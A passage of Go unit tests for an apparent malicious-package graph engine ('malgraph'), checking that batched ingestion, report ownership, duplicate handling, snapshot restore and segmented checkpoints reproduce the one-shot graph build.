		t.Fatalf("fixture missing %s", name)
	}
	return rest, held
}

// coexAttrByPair maps each co-existing pair to its "report" attr (the owning
// report URL under the first-writer contract).
func coexAttrByPair(mg *MalGraph) map[string]string {
	out := make(map[string]string)
	for _, e := range mg.G.Edges(graph.Coexisting) {
		out[coexPairKey(e.From, e.To)] = e.Attrs["report"]
	}
	return out
}

// TestCoexistingScopedWantedArrival is the tentpole contract: a wanted
// package arriving re-joins only the reports that name it — no rebuild —
// and still converges to the one-shot build bit for bit.
func TestCoexistingScopedWantedArrival(t *testing.T) {
	ds, reps := miniDataset(t)
	want, err := Build(ds, reps, DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	rest, held := holdOut(t, ds, "alpha-three") // named by report r/2 only

	eng := NewEngine(DefaultConfig())
	if _, err := eng.Ingest(Batch{Entries: rest, Reports: reps, At: ds.CollectedAt}); err != nil {
		t.Fatal(err)
	}
	st, err := eng.Ingest(Batch{Entries: []*collect.Entry{held}})
	if err != nil {
		t.Fatal(err)
	}
	if st.CoexistingRebuilt {
		t.Fatalf("wanted-package arrival rebuilt the co-existing family: %+v", st)
	}
	if !st.CoexistingScoped || st.ReportsRejoined != 1 {
		t.Fatalf("re-join not scoped to the naming report: %+v", st)
	}
	if !st.CoexistingChanged() {
		t.Fatalf("scoped re-join must dirty RQ4: %+v", st)
	}
	assertEngineMatchesBuild(t, eng, want, "wanted-arrival")
}

// TestCoexistingLateReportOwnershipRepair pins the first-writer contract: a
// late-arriving report with a smaller URL than the current owner of a pair
// must take over that edge's attrs — exactly one surgical edge replacement.
func TestCoexistingLateReportOwnershipRepair(t *testing.T) {
	ds, _ := miniDataset(t)
	pkgs := []ecosys.Coord{
		{Ecosystem: ecosys.PyPI, Name: "alpha-one", Version: "1.0.0"},
		{Ecosystem: ecosys.PyPI, Name: "alpha-two", Version: "1.0.0"},
	}
	ra := &reports.Report{URL: "https://z.example/a", Site: "z.example", Packages: pkgs}
	rb := &reports.Report{URL: "https://z.example/b", Site: "z.example", Packages: pkgs}

	want, err := Build(ds, []*reports.Report{ra, rb}, DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}

	eng := NewEngine(DefaultConfig())
	if _, err := eng.Ingest(Batch{Entries: ds.Entries, Reports: []*reports.Report{rb}, At: ds.CollectedAt}); err != nil {
		t.Fatal(err)
	}
	pair := coexPairKey(NodeID(pkgs[0]), NodeID(pkgs[1]))
	if got := coexAttrByPair(eng.Graph())[pair]; got != rb.URL {
		t.Fatalf("pre-repair owner = %q, want %q", got, rb.URL)
	}
	st, err := eng.Ingest(Batch{Reports: []*reports.Report{ra}})
	if err != nil {
		t.Fatal(err)
	}
	if st.CoexistingRebuilt || !st.CoexistingScoped {
		t.Fatalf("late report should take the scoped path: %+v", st)
	}
	if st.CoexistingEdgesReplaced != 1 {
		t.Fatalf("edges replaced = %d, want exactly the repaired pair: %+v", st.CoexistingEdgesReplaced, st)
	}
	if got := coexAttrByPair(eng.Graph())[pair]; got != ra.URL {
		t.Fatalf("post-repair owner = %q, want the URL-smallest report %q", got, ra.URL)
	}
	assertEngineMatchesBuild(t, eng, want, "late-report")
}

// TestCoexistingHubPathGrowth exercises the non-monotone case: a report
// group beyond PairwiseLimit changes its hub-and-path pair set as members
// arrive, so the scoped path must replace the group's edges and re-join
// every overlapping report — and still match one-shot.
func TestCoexistingHubPathGrowth(t *testing.T) {
	cfg := DefaultConfig()
	cfg.PairwiseLimit = 3
	ds, _ := miniDataset(t)
	var names []ecosys.Coord
	for _, e := range ds.Entries {
		if e.Coord.Ecosystem == ecosys.PyPI {
			names = append(names, e.Coord)
		}
	}
	if len(names) < 5 {
		t.Fatalf("fixture has %d PyPI packages, need 5", len(names))
	}
	big := &reports.Report{URL: "https://z.example/big", Site: "z.example", Packages: names}
	side := &reports.Report{URL: "https://z.example/side", Site: "z.example", Packages: names[:2]}
	reps := []*reports.Report{big, side}

	want, err := Build(ds, reps, cfg)
	if err != nil {
		t.Fatal(err)
	}
	rest, held := holdOut(t, ds, "alpha-three")
	eng := NewEngine(cfg)
	if _, err := eng.Ingest(Batch{Entries: rest, Reports: reps, At: ds.CollectedAt}); err != nil {
		t.Fatal(err)
	}
	st, err := eng.Ingest(Batch{Entries: []*collect.Entry{held}})
	if err != nil {
		t.Fatal(err)
	}
	if st.CoexistingRebuilt || !st.CoexistingScoped {
		t.Fatalf("hub-path growth should stay scoped: %+v", st)
	}
	if st.ReportsRejoined != 2 {
		t.Fatalf("reports rejoined = %d, want the grown group plus its overlap: %+v", st.ReportsRejoined, st)
	}
	if st.CoexistingEdgesReplaced == 0 {
		t.Fatalf("hub-and-path growth must replace the group's edges: %+v", st)
	}
	assertEngineMatchesBuild(t, eng, want, "hub-path-growth")
}

// TestCoexistingDuplicateReports covers the silently-dropped re-crawl bug:
// a re-delivered report URL is still deduped, but now surfaces in
// IngestStats — and a changed re-crawl is counted as a content conflict.
func TestCoexistingDuplicateReports(t *testing.T) {
	ds, reps := miniDataset(t)
	eng := NewEngine(DefaultConfig())
	if _, err := eng.Ingest(Batch{Entries: ds.Entries, Reports: reps, At: ds.CollectedAt}); err != nil {
		t.Fatal(err)
	}
	before := graphSig(t, eng.Graph())

	// Identical re-crawl: dropped, counted, no conflict, no state change.
	same := *reps[0]
	st, err := eng.Ingest(Batch{Reports: []*reports.Report{&same}})
	if err != nil {
		t.Fatal(err)
	}
	if st.DuplicateReports != 1 || st.DuplicateReportConflicts != 0 || st.NewReports != 0 {
		t.Fatalf("identical duplicate: %+v", st)
	}
	if st.CoexistingChanged() {
		t.Fatalf("identical duplicate dirtied RQ4: %+v", st)
	}

	// Re-crawl with changed content (an added package): dropped but flagged.
	changed := *reps[0]
	changed.Packages = append(append([]ecosys.Coord(nil), changed.Packages...),
		ecosys.Coord{Ecosystem: ecosys.PyPI, Name: "added-later", Version: "1.0.0"})
	st, err = eng.Ingest(Batch{Reports: []*reports.Report{&changed}})
	if err != nil {
		t.Fatal(err)
	}
	if st.DuplicateReports != 1 || st.DuplicateReportConflicts != 1 {
		t.Fatalf("changed duplicate: %+v", st)
	}
	if len(eng.Reports()) != len(reps) {
		t.Fatalf("duplicate grew the corpus: %d reports", len(eng.Reports()))
	}
	if after := graphSig(t, eng.Graph()); after != before {
		t.Fatal("duplicate report mutated the graph")
	}
}

// TestCoexistingFullRebuildFallback: when one arrival would re-join most of
// a non-trivial corpus, the stage falls back to a single full re-derivation
// and says so.
func TestCoexistingFullRebuildFallback(t *testing.T) {
	ds, _ := miniDataset(t)
	rest, held := holdOut(t, ds, "lonely")
	var reps []*reports.Report
	for i := 0; i < fullRejoinThreshold+8; i++ {
		reps = append(reps, &reports.Report{
			URL:      fmt.Sprintf("https://bulk.example/r/%04d", i),
			Site:     "bulk.example",
			Packages: []ecosys.Coord{held.Coord},
		})
	}
	eng := NewEngine(DefaultConfig())
	warmStats, err := eng.Ingest(Batch{Entries: rest, Reports: reps, At: ds.CollectedAt})
	if err != nil {
		t.Fatal(err)
	}
	// A bulk in-order load is pure append whatever its size: tail reports
	// can never repair ownership, so they must not trip the fallback.
	if warmStats.CoexistingRebuilt || warmStats.CoexistingScoped {
		t.Fatalf("bulk in-order load left the append path: %+v", warmStats)
	}
	st, err := eng.Ingest(Batch{Entries: []*collect.Entry{held}})
	if err != nil {
		t.Fatal(err)
	}
	if !st.CoexistingRebuilt || st.CoexistingScoped {
		t.Fatalf("corpus-wide scope should fall back to a full rebuild: %+v", st)
	}
	if st.ReportsRejoined != len(reps) {
		t.Fatalf("reports rejoined = %d, want %d", st.ReportsRejoined, len(reps))
	}
	want, err := Build(ds, reps, DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	assertEngineMatchesBuild(t, eng, want, "rebuild-fallback")
}

// TestEngineRestoreRejoinsSameScope is the ISSUE 5 restore-parity contract:
// after RestoreEngine, ingesting a wanted package must re-join the same
// scope — same ReportsRejoined, same edge delta, same repairs — as the
// engine that never snapshotted, with no O(reports) first ingest.
func TestEngineRestoreRejoinsSameScope(t *testing.T) {
	ds, reps := miniDataset(t)
	rest, held := holdOut(t, ds, "alpha-three")

	live := NewEngine(DefaultConfig())
	if _, err := live.Ingest(Batch{Entries: rest, Reports: reps, At: ds.CollectedAt}); err != nil {
		t.Fatal(err)
	}
	var snap bytes.Buffer
	if err := live.Snapshot(&snap); err != nil {
		t.Fatal(err)
	}
	restored, err := RestoreEngine(bytes.NewReader(snap.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(restored.posting, live.posting) {
		t.Fatal("restored posting lists differ")
	}
	if !reflect.DeepEqual(restored.coexOwner, live.coexOwner) {
		t.Fatal("restored pair ownership differs")
	}

	delta := Batch{Entries: []*collect.Entry{held}}
	liveStats, err := live.Ingest(delta)
	if err != nil {
		t.Fatal(err)
	}
	restoredStats, err := restored.Ingest(delta)
	if err != nil {
		t.Fatal(err)
	}
	if liveStats.ReportsRejoined != restoredStats.ReportsRejoined ||
		liveStats.CoexistingDelta != restoredStats.CoexistingDelta ||
		liveStats.CoexistingEdgesReplaced != restoredStats.CoexistingEdgesReplaced ||
		liveStats.CoexistingScoped != restoredStats.CoexistingScoped ||
		liveStats.CoexistingRebuilt != restoredStats.CoexistingRebuilt {
		t.Fatalf("re-join scope differs:\n live     %+v\n restored %+v", liveStats, restoredStats)
	}
	if restoredStats.CoexistingRebuilt {
		t.Fatalf("restored engine paid a full re-join: %+v", restoredStats)
	}
	if a, b := graphSig(t, live.Graph()), graphSig(t, restored.Graph()); a != b {
		t.Fatal("post-delta graphs differ")
	}
}
