package core

import (
	"bytes"
	"fmt"
	"reflect"
	"sort"
	"testing"

	"malgraph/internal/collect"
	"malgraph/internal/graph"
	"malgraph/internal/reports"
	"malgraph/internal/xrand"
)

// graphSig summarises a graph as a partition-order-independent signature:
// sorted node IDs and the sorted (type, endpoints, attr) edge set. Two
// graphs with equal signatures have identical components and identical
// analysis inputs, whatever order their edges were inserted in.
func graphSig(t *testing.T, mg *MalGraph) string {
	t.Helper()
	var b bytes.Buffer
	for _, id := range mg.G.NodeIDs() {
		n, _ := mg.G.Node(id)
		keys := make([]string, 0, len(n.Attrs))
		for k := range n.Attrs {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		fmt.Fprintf(&b, "N %s", id)
		for _, k := range keys {
			fmt.Fprintf(&b, " %s=%s", k, n.Attrs[k])
		}
		b.WriteByte('\n')
	}
	var lines []string
	for _, e := range mg.G.Edges() {
		from, to := e.From, e.To
		if e.Type != graph.Dependency && from > to {
			from, to = to, from
		}
		keys := make([]string, 0, len(e.Attrs))
		for k := range e.Attrs {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		line := fmt.Sprintf("E %d %s %s", e.Type, from, to)
		for _, k := range keys {
			line += " " + k + "=" + e.Attrs[k]
		}
		lines = append(lines, line)
	}
	sort.Strings(lines)
	for _, l := range lines {
		b.WriteString(l)
		b.WriteByte('\n')
	}
	return b.String()
}

// ingestPartitioned shuffles the dataset with a seeded RNG, splits it into k
// entry batches with reports interleaved round-robin, and ingests them.
func ingestPartitioned(t *testing.T, ds *collect.Result, reps []*reports.Report, k int, shuffleSeed uint64) *Engine {
	t.Helper()
	entries := make([]*collect.Entry, len(ds.Entries))
	copy(entries, ds.Entries)
	rng := xrand.New(shuffleSeed)
	for i := len(entries) - 1; i > 0; i-- {
		j := int(rng.Uint64() % uint64(i+1))
		entries[i], entries[j] = entries[j], entries[i]
	}
	eng := NewEngine(DefaultConfig())
	for b := 0; b < k; b++ {
		lo, hi := b*len(entries)/k, (b+1)*len(entries)/k
		batch := Batch{Entries: entries[lo:hi], At: ds.CollectedAt}
		for ri, r := range reps {
			if ri%k == b {
				batch.Reports = append(batch.Reports, r)
			}
		}
		if _, err := eng.Ingest(batch); err != nil {
			t.Fatalf("ingest batch %d/%d: %v", b+1, k, err)
		}
	}
	return eng
}

func assertEngineMatchesBuild(t *testing.T, eng *Engine, want *MalGraph, label string) {
	t.Helper()
	got := eng.Graph()
	if gs, ws := graphSig(t, got), graphSig(t, want); gs != ws {
		t.Errorf("%s: graph signature differs (got %d bytes, want %d bytes)", label, len(gs), len(ws))
	}
	for _, et := range graph.EdgeTypes() {
		if g, w := got.G.EdgeCount(et), want.G.EdgeCount(et); g != w {
			t.Errorf("%s: %s edges = %d, want %d", label, et, g, w)
		}
		if g, w := got.PackageSubgraphs(et, 2), want.PackageSubgraphs(et, 2); !reflect.DeepEqual(g, w) {
			t.Errorf("%s: %s subgraphs differ:\n got %v\nwant %v", label, et, g, w)
		}
	}
	if !reflect.DeepEqual(got.SimilarClusters, want.SimilarClusters) {
		t.Errorf("%s: similar clusters differ", label)
	}
	if !reflect.DeepEqual(got.DuplicateGroups(), want.DuplicateGroups()) {
		t.Errorf("%s: duplicate groups differ", label)
	}
	if g, w := len(got.ReportsByPackage), len(want.ReportsByPackage); g != w {
		t.Errorf("%s: reports-by-package size = %d, want %d", label, g, w)
	}
	for id, wantReps := range want.ReportsByPackage {
		gotReps := got.ReportsByPackage[id]
		if len(gotReps) != len(wantReps) {
			t.Errorf("%s: reports for %s = %d, want %d", label, id, len(gotReps), len(wantReps))
			continue
		}
		for i := range wantReps {
			if gotReps[i].URL != wantReps[i].URL {
				t.Errorf("%s: report %d for %s = %s, want %s", label, i, id, gotReps[i].URL, wantReps[i].URL)
			}
		}
	}
}

// TestEngineBatchPartitionsMatchBuild is the core-level determinism
// contract: any shuffled partition of the corpus, ingested batch by batch,
// yields the same components, edge sets and clusters as a one-shot Build.
func TestEngineBatchPartitionsMatchBuild(t *testing.T) {
	ds, reps := miniDataset(t)
	want, err := Build(ds, reps, DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	for _, k := range []int{1, 2, 3, 5} {
		for shuffle := uint64(1); shuffle <= 3; shuffle++ {
			eng := ingestPartitioned(t, ds, reps, k, shuffle)
			assertEngineMatchesBuild(t, eng, want, fmt.Sprintf("k=%d shuffle=%d", k, shuffle))
		}
	}
}

// TestEngineIngestIdempotent re-ingests the full corpus into an
// already-complete engine: everything must no-op.
func TestEngineIngestIdempotent(t *testing.T) {
	ds, reps := miniDataset(t)
	eng := NewEngine(DefaultConfig())
	if _, err := eng.Ingest(Batch{Entries: ds.Entries, Reports: reps, At: ds.CollectedAt}); err != nil {
		t.Fatal(err)
	}
	before := graphSig(t, eng.Graph())
	beforeStats := fmt.Sprintf("%+v", eng.Dataset().PerSource)
	// Replayed batches carry their accounting too (a warm-restarted server
	// drains the same feed); nothing may double-count.
	replay := ds.BatchOf(ds.Entries)
	st, err := eng.Ingest(Batch{Entries: ds.Entries, PerSource: replay.PerSource, Reports: reps})
	if err != nil {
		t.Fatal(err)
	}
	if after := fmt.Sprintf("%+v", eng.Dataset().PerSource); after != beforeStats {
		t.Fatalf("re-ingest double-counted source stats:\n before %s\n after  %s", beforeStats, after)
	}
	if st.NewEntries != 0 || st.UpdatedEntries != 0 || st.NewArtifacts != 0 || st.NewReports != 0 {
		t.Fatalf("re-ingest changed state: %+v", st)
	}
	if st.SimilarChanged() || st.CoexistingChanged() || st.DependencyChanged() || st.DatasetChanged() {
		t.Fatalf("re-ingest dirtied analyses: %+v", st)
	}
	if after := graphSig(t, eng.Graph()); after != before {
		t.Fatal("re-ingest mutated the graph")
	}
}

// TestEngineIngestStats sanity-checks the invalidation signal on a fresh
// full ingest.
func TestEngineIngestStats(t *testing.T) {
	ds, reps := miniDataset(t)
	eng := NewEngine(DefaultConfig())
	st, err := eng.Ingest(Batch{Entries: ds.Entries, Reports: reps, At: ds.CollectedAt})
	if err != nil {
		t.Fatal(err)
	}
	if st.NewEntries != len(ds.Entries) || st.NewArtifacts != len(ds.Available()) {
		t.Fatalf("entry counts: %+v", st)
	}
	if st.NewReports != len(reps) || !st.CoexistingRebuilt {
		t.Fatalf("report counts: %+v", st)
	}
	if !st.SimilarChanged() || !st.DependencyChanged() || !st.DatasetChanged() {
		t.Fatalf("dirty flags: %+v", st)
	}
	if st.DuplicatedDelta != eng.Graph().G.EdgeCount(graph.Duplicated) ||
		st.SimilarDelta != eng.Graph().G.EdgeCount(graph.Similar) ||
		st.DependencyDelta != eng.Graph().G.EdgeCount(graph.Dependency) ||
		st.CoexistingDelta != eng.Graph().G.EdgeCount(graph.Coexisting) {
		t.Fatalf("edge deltas on fresh ingest must equal totals: %+v", st)
	}
}

// TestEngineSnapshotRestore checkpoints mid-stream, restores, finishes
// ingesting, and requires the result to match both the uninterrupted engine
// and the one-shot Build.
func TestEngineSnapshotRestore(t *testing.T) {
	ds, reps := miniDataset(t)
	want, err := Build(ds, reps, DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}

	half := len(ds.Entries) / 2
	first := Batch{Entries: ds.Entries[:half], PerSource: ds.BatchOf(ds.Entries[:half]).PerSource, Reports: reps[:1], At: ds.CollectedAt}
	second := Batch{Entries: ds.Entries[half:], PerSource: ds.BatchOf(ds.Entries[half:]).PerSource, Reports: reps[1:]}
	eng := NewEngine(DefaultConfig())
	if _, err := eng.Ingest(first); err != nil {
		t.Fatal(err)
	}
	var snap bytes.Buffer
	if err := eng.Snapshot(&snap); err != nil {
		t.Fatal(err)
	}
	restored, err := RestoreEngine(bytes.NewReader(snap.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	// The restored engine must already match the snapshotted one.
	if a, b := graphSig(t, eng.Graph()), graphSig(t, restored.Graph()); a != b {
		t.Fatal("restored graph differs from snapshotted graph")
	}
	// A warm-restarted server replays the whole feed: the first batch must
	// no-op (including its accounting), the second completes the corpus.
	for _, b := range []Batch{first, second} {
		if _, err := restored.Ingest(b); err != nil {
			t.Fatal(err)
		}
	}
	assertEngineMatchesBuild(t, restored, want, "restored")
	wantStats := ds.BatchOf(ds.Entries).PerSource
	for id, w := range wantStats {
		if got := restored.Dataset().PerSource[id]; got != w {
			t.Fatalf("replayed accounting for %s = %+v, want %+v", id, got, w)
		}
	}

	if restored.Dataset().TotalMR() != ds.TotalMR() {
		t.Fatalf("restored dataset MR %v, want %v", restored.Dataset().TotalMR(), ds.TotalMR())
	}
	if len(restored.Reports()) != len(reps) {
		t.Fatalf("restored reports = %d", len(restored.Reports()))
	}
}

// TestEngineLateArtifactUpsert exercises the merge path: a package first
// observed without an artifact gains one (plus a second source) later and
// must join the similarity stage and the duplicated cliques.
func TestEngineLateArtifactUpsert(t *testing.T) {
	ds, reps := miniDataset(t)
	eng := NewEngine(DefaultConfig())

	// Strip the artifact and second/third sources off the duplicated entry.
	var full *collect.Entry
	stripped := make([]*collect.Entry, 0, len(ds.Entries))
	for _, e := range ds.Entries {
		if e.Coord.Name == "acookie" {
			full = e
			bare := *e
			bare.Artifact = nil
			bare.Availability = collect.Missing
			bare.Sources = e.Sources[:1]
			stripped = append(stripped, &bare)
			continue
		}
		stripped = append(stripped, e)
	}
	if full == nil {
		t.Fatal("fixture missing acookie")
	}
	if _, err := eng.Ingest(Batch{Entries: stripped, Reports: reps, At: ds.CollectedAt}); err != nil {
		t.Fatal(err)
	}
	if got := eng.Graph().G.EdgeCount(graph.Duplicated); got != 0 {
		t.Fatalf("premature duplicated edges: %d", got)
	}

	st, err := eng.Ingest(Batch{Entries: []*collect.Entry{full}})
	if err != nil {
		t.Fatal(err)
	}
	if st.NewEntries != 0 || st.UpdatedEntries != 1 || st.NewArtifacts != 1 {
		t.Fatalf("upsert stats: %+v", st)
	}
	if got := eng.Graph().G.EdgeCount(graph.Duplicated); got != 3 { // C(3,2)
		t.Fatalf("duplicated edges after upsert = %d", got)
	}
	merged, ok := eng.Graph().EntryByNodeID(NodeID(full.Coord))
	if !ok || merged.Artifact == nil || len(merged.Sources) != 3 {
		t.Fatalf("merged entry wrong: %+v ok=%v", merged, ok)
	}
	n, _ := eng.Graph().G.Node(NodeID(full.Coord))
	if n.Attrs["occ"] != "3" || n.Attrs["avail"] != collect.FromSource.String() {
		t.Fatalf("node attrs not refreshed: %v", n.Attrs)
	}
}

// TestEngineRestoreReclustersSamePartitions is the LSH persistence contract:
// a restored engine carries the same partition structure and per-partition
// cluster cache, so its next ingest re-clusters exactly the partitions the
// uninterrupted engine would — no more (no O(ecosystem) fallback), no fewer.
func TestEngineRestoreReclustersSamePartitions(t *testing.T) {
	ds, reps := miniDataset(t)
	half := len(ds.Entries) - 2
	warm := Batch{Entries: ds.Entries[:half], Reports: reps, At: ds.CollectedAt}
	delta := Batch{Entries: ds.Entries[half:]}

	live := NewEngine(DefaultConfig())
	if _, err := live.Ingest(warm); err != nil {
		t.Fatal(err)
	}
	var snap bytes.Buffer
	if err := live.Snapshot(&snap); err != nil {
		t.Fatal(err)
	}
	restored, err := RestoreEngine(bytes.NewReader(snap.Bytes()))
	if err != nil {
		t.Fatal(err)
	}

	// The rebuilt LSH index must expose identical partitions per ecosystem.
	for eco, idx := range live.lshByEco {
		ridx := restored.lshByEco[eco]
		if ridx == nil {
			t.Fatalf("%s: restored engine lost its LSH index", eco)
		}
		wantParts, gotParts := idx.Partitions(), ridx.Partitions()
		if !reflect.DeepEqual(gotParts, wantParts) {
			t.Fatalf("%s: partitions differ: got %v want %v", eco, gotParts, wantParts)
		}
		for _, key := range wantParts {
			if !reflect.DeepEqual(ridx.Members(key), idx.Members(key)) {
				t.Fatalf("%s: members of %s differ", eco, key)
			}
		}
	}
	if !reflect.DeepEqual(restored.clustersByPart, live.clustersByPart) {
		t.Fatal("restored per-partition cluster cache differs")
	}

	// The same delta must produce identical recluster scope and final state.
	liveStats, err := live.Ingest(delta)
	if err != nil {
		t.Fatal(err)
	}
	restoredStats, err := restored.Ingest(delta)
	if err != nil {
		t.Fatal(err)
	}
	if liveStats.PartitionsReclustered != restoredStats.PartitionsReclustered ||
		liveStats.ArtifactsReclustered != restoredStats.ArtifactsReclustered ||
		liveStats.DirtyEcoItems != restoredStats.DirtyEcoItems {
		t.Fatalf("recluster scope differs:\n live     %+v\n restored %+v", liveStats, restoredStats)
	}
	if liveStats.SimilarDelta != restoredStats.SimilarDelta {
		t.Fatalf("similar deltas differ: %d vs %d", liveStats.SimilarDelta, restoredStats.SimilarDelta)
	}
	if a, b := graphSig(t, live.Graph()), graphSig(t, restored.Graph()); a != b {
		t.Fatal("post-delta graphs differ")
	}
	if !reflect.DeepEqual(live.Graph().SimilarClusters, restored.Graph().SimilarClusters) {
		t.Fatal("post-delta clusters differ")
	}
}

// TestEngineIngestScopeAccounting checks the recluster-scope stats: a delta
// landing in one known family re-clusters that family's partition (plus any
// partitions its own artifacts form), never the whole ecosystem.
func TestEngineIngestScopeAccounting(t *testing.T) {
	ds, reps := miniDataset(t)
	// Hold back one alpha variant (a member of the camA similarity family).
	var held *collect.Entry
	rest := make([]*collect.Entry, 0, len(ds.Entries))
	for _, e := range ds.Entries {
		if e.Coord.Name == "alpha-three" {
			held = e
			continue
		}
		rest = append(rest, e)
	}
	if held == nil {
		t.Fatal("fixture missing alpha-three")
	}
	eng := NewEngine(DefaultConfig())
	if _, err := eng.Ingest(Batch{Entries: rest, Reports: reps, At: ds.CollectedAt}); err != nil {
		t.Fatal(err)
	}
	st, err := eng.Ingest(Batch{Entries: []*collect.Entry{held}})
	if err != nil {
		t.Fatal(err)
	}
	if st.PartitionsReclustered != 1 {
		t.Fatalf("partitions reclustered = %d, want 1 (alpha family only): %+v", st.PartitionsReclustered, st)
	}
	if st.ArtifactsReclustered >= st.DirtyEcoItems {
		t.Fatalf("re-cluster scope not partial: %d of %d", st.ArtifactsReclustered, st.DirtyEcoItems)
	}
	if st.ArtifactsReclustered != 3 { // alpha-one, alpha-two, alpha-three
		t.Fatalf("artifacts reclustered = %d, want 3", st.ArtifactsReclustered)
	}
}
