package core

// Contracts under test for segmented (v5) checkpoints: a chain of delta
// checkpoints restores to exactly the state a monolithic snapshot would
// have captured; a monolithic v3/v4 snapshot restores into a store-backed
// engine byte-equivalently to the plain path (the upgrade road); version
// errors are explicit about what the reader needed; and compaction driven
// by CollectManifestRefs never strands a restorable manifest.

import (
	"bytes"
	"encoding/json"
	"io"
	"reflect"
	"sort"
	"strings"
	"testing"

	"malgraph/internal/castore"
	"malgraph/internal/collect"
)

// engineStateBytes serialises the observable engine state deterministically:
// the full dataset export, the graph, and the report corpus. Two engines
// with equal state bytes are interchangeable for every read path.
func engineStateBytes(t *testing.T, e *Engine) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := e.Dataset().WriteJSON(&buf, collect.ExportFull); err != nil {
		t.Fatal(err)
	}
	if err := e.Graph().G.WriteJSON(&buf); err != nil {
		t.Fatal(err)
	}
	reps := e.Reports()
	sort.Slice(reps, func(i, j int) bool { return reps[i].URL < reps[j].URL })
	if err := json.NewEncoder(&buf).Encode(reps); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func openTestStore(t *testing.T) *castore.Store {
	t.Helper()
	st, err := castore.Open(t.TempDir(), nil)
	if err != nil {
		t.Fatal(err)
	}
	return st
}

// assertRestoredMatches compares a freshly-restored engine against the live
// engine it was checkpointed from. Restore has one cosmetic latitude (shared
// with the monolithic path): an ecosystem with zero similarity clusters may
// come back as a missing key or an empty slice where the live engine holds
// nil, so clusters compare empty-normalized; everything else must be exact.
func assertRestoredMatches(t *testing.T, restored, live *Engine, label string) {
	t.Helper()
	if a, b := graphSig(t, live.Graph()), graphSig(t, restored.Graph()); a != b {
		t.Errorf("%s: graph signature differs from the live engine", label)
	}
	if a, b := engineStateBytes(t, live), engineStateBytes(t, restored); !bytes.Equal(a, b) {
		t.Errorf("%s: state bytes differ from the live engine", label)
	}
	norm := func(e *Engine) map[string][]string {
		out := make(map[string][]string)
		for eco, cs := range e.Graph().SimilarClusters {
			for _, c := range cs {
				out[eco.String()] = append(out[eco.String()], strings.Join(c.Members, ","))
			}
			sort.Strings(out[eco.String()])
		}
		return out
	}
	if a, b := norm(live), norm(restored); !reflect.DeepEqual(a, b) {
		t.Errorf("%s: similar clusters differ:\n live %v\n restored %v", label, a, b)
	}
	if !reflect.DeepEqual(live.Graph().DuplicateGroups(), restored.Graph().DuplicateGroups()) {
		t.Errorf("%s: duplicate groups differ", label)
	}
}

// TestSegmentedCheckpointChainMatchesBuild ingests the corpus in batches
// with a checkpoint after every batch, restores from the final manifest
// (whose sections are chains of delta chunks by then), and requires the
// result to match the one-shot Build — then keeps the chain going: the
// restored engine ingests more, checkpoints again, and restores again.
func TestSegmentedCheckpointChainMatchesBuild(t *testing.T) {
	ds, reps := miniDataset(t)
	want, err := Build(ds, reps, DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	store := openTestStore(t)
	eng := NewEngine(DefaultConfig())
	eng.AttachStore(store)

	third := len(ds.Entries) / 3
	cuts := []int{third, 2 * third, len(ds.Entries)}
	var manifest bytes.Buffer
	lo := 0
	for i, hi := range cuts {
		b := Batch{Entries: ds.Entries[lo:hi], At: ds.CollectedAt}
		if i < len(reps) {
			b.Reports = reps[i : i+1]
		}
		if i == len(cuts)-1 {
			b.Reports = reps[i:]
		}
		if _, err := eng.Ingest(b); err != nil {
			t.Fatal(err)
		}
		manifest.Reset()
		if err := eng.Snapshot(&manifest); err != nil {
			t.Fatal(err)
		}
		lo = hi
	}

	// The live batch-ingested engine matches the one-shot Build (the core
	// determinism contract); the restored engine must match the live one.
	assertEngineMatchesBuild(t, eng, want, "live-chain")
	restored, err := RestoreEngineWithStore(bytes.NewReader(manifest.Bytes()), store)
	if err != nil {
		t.Fatal(err)
	}
	assertRestoredMatches(t, restored, eng, "restored-from-chain")

	// The chain continues after restore: another delta lands, another
	// manifest, another restore — still equivalent.
	extra := Batch{Entries: ds.Entries[:third]} // replayed prefix must no-op
	if _, err := restored.Ingest(extra); err != nil {
		t.Fatal(err)
	}
	manifest.Reset()
	if err := restored.Snapshot(&manifest); err != nil {
		t.Fatal(err)
	}
	again, err := RestoreEngineWithStore(bytes.NewReader(manifest.Bytes()), store)
	if err != nil {
		t.Fatal(err)
	}
	assertRestoredMatches(t, again, restored, "restored-twice")
}

// TestMonolithicRestoresIntoSegmentedEngine is the upgrade road: a v4
// monolithic snapshot restores through RestoreEngineWithStore
// byte-equivalently to the plain RestoreEngine path, and the store-backed
// engine then finishes the corpus and checkpoints segmentedly.
func TestMonolithicRestoresIntoSegmentedEngine(t *testing.T) {
	ds, reps := miniDataset(t)
	want, err := Build(ds, reps, DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	half := len(ds.Entries) / 2
	eng := NewEngine(DefaultConfig())
	if _, err := eng.Ingest(Batch{Entries: ds.Entries[:half], Reports: reps[:1], At: ds.CollectedAt}); err != nil {
		t.Fatal(err)
	}
	var mono bytes.Buffer
	if err := eng.Snapshot(&mono); err != nil { // no store attached: v4 monolithic
		t.Fatal(err)
	}

	plain, err := RestoreEngine(bytes.NewReader(mono.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	store := openTestStore(t)
	segmented, err := RestoreEngineWithStore(bytes.NewReader(mono.Bytes()), store)
	if err != nil {
		t.Fatal(err)
	}
	if a, b := engineStateBytes(t, plain), engineStateBytes(t, segmented); !bytes.Equal(a, b) {
		t.Fatal("v4 restored through the store differs from the plain restore")
	}
	if segmented.Store() != store {
		t.Fatal("store not attached after monolithic restore")
	}

	// First checkpoint after the upgrade re-bases everything into the store;
	// a fresh restore from it matches the finished corpus.
	if _, err := segmented.Ingest(Batch{Entries: ds.Entries[half:], Reports: reps[1:]}); err != nil {
		t.Fatal(err)
	}
	var manifest bytes.Buffer
	if err := segmented.Snapshot(&manifest); err != nil {
		t.Fatal(err)
	}
	if store.Len() == 0 {
		t.Fatal("upgrade checkpoint wrote no blobs to the store")
	}
	// The live upgraded engine finished the corpus by real ingest, so it
	// must match Build; the restore of its manifest must match it.
